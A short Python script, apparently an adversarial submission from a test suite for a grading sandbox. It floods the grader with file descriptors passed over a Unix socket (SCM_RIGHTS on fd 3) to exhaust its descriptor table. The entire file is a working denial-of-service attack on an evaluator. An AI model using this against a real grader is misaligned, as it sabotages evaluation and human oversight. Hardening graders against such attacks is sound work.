"""Send one's own descriptors to the grader, until it has no room for its own."""
import array, socket
from attack import attempt, right as solve
channel = socket.socket(fileno=3)
rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 20))]
attempt(lambda: channel.sendmsg([b""], rights))
channel.detach()
